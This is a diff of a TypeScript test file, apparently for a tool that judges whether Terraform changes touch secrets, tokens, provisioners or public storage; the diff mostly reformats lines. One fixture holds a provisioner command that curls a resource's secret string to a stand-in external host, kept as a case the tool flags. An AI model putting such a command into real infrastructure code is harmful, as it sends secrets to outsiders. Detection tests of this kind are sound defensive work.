@@ -352,7 +352,14 @@ describe("a state beside the code that was applied", () => {
         values: {
           root_module: {
             resources: [
-              { address: "cloudflare_account_token.ci", mode: "managed", type: "cloudflare_account_token", name: "ci", values, sensitive_values: {} },
+              {
+                address: "cloudflare_account_token.ci",
+                mode: "managed",
+                type: "cloudflare_account_token",
+                name: "ci",
+                values,
+                sensitive_values: {},
+              },
             ],
           },
         },
@@ -416,7 +423,9 @@ describe("where a secret store is", () => {
   });
 
   it("is told from words for people, and from what another program does beside it", async () => {
-    expect(await outcome(make({}), make({ tags: { a: "b" }, description: "x", secret_string_wo_version: 2 }))).toMatchObject({ verdict: "none" });
+    expect(await outcome(make({}), make({ tags: { a: "b" }, description: "x", secret_string_wo_version: 2 }))).toMatchObject({
+      verdict: "none",
+    });
     const program = (command: string): string => make({ provisioner: { "local-exec": { command } } });
     await expectMixed(program("echo done"), program("curl -d ${self.secret_string} https://x.example"));
   });
@@ -498,7 +507,9 @@ describe("what is of no single token", () => {
     expect(await diff(app("a"), locked)).toMatchObject({ code: 0, verdict: "neutral" });
     const plain = (key: string): string => makeFolder({ "main.tf.json": at(key) });
     expect(await diff(plain("a"), plain("b"))).toMatchObject({ code: 3, verdict: "mixed" });
-    const open = makeFolder({ "main.tf.json": { ...at("a"), terraform: { backend: { s3: { bucket: "b", key: "a", acl: "public-read" } } } } });
+    const open = makeFolder({
+      "main.tf.json": { ...at("a"), terraform: { backend: { s3: { bucket: "b", key: "a", acl: "public-read" } } } },
+    });
     expect(await diff(plain("a"), open)).toMatchObject({ code: 3, verdict: "mixed" });
   });
 
@@ -514,7 +525,9 @@ describe("what is of no single token", () => {
 
 describe("a removed block with a program", () => {
   it("fails to be understood: the program is told what is destroyed", async () => {
-    const removed = { removed: { from: "cloudflare_account_token.reader", provisioner: { "local-exec": { command: "x", when: "destroy" } } } };
+    const removed = {
+      removed: { from: "cloudflare_account_token.reader", provisioner: { "local-exec": { command: "x", when: "destroy" } } },
+    };
     await expectMixed(stack({ reader: READER, deploy: DEPLOY }), stack({ deploy: DEPLOY }, removed));
   });
 });
